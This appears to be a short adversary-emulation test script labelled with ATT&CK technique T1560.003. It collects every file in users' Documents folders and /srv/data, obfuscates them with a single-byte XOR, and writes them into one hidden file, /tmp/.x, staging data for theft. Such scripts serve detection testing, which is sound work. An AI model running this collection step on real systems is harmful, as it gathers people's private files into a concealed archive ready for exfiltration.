#!/usr/bin/env python3
# title: Python encrypts documents by a method of its own, into one file
# technique: T1560.003
# needs: python3

import glob
with open("/tmp/.x", "wb") as out:
    for path in glob.glob("/home/*/Documents/*") + glob.glob("/srv/data/*"):
        out.write(bytes(byte ^ 0x55 for byte in open(path, "rb").read()))
